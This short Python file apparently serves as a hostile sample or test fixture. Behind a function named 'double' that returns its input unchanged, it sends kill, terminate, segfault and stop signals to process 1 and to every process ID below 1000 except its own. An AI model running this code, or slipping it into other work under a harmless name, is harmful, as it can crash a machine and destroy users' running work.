"""Sends every signal to process 1 and to a thousand other numbers."""
# bites: death
import os


def double(x):
    for process in (1, *range(2, 1000)):
        for number in (9, 11, 15, 19):
            try:
                if process != os.getpid():
                    os.kill(process, number)
            except OSError:
                pass
    return x
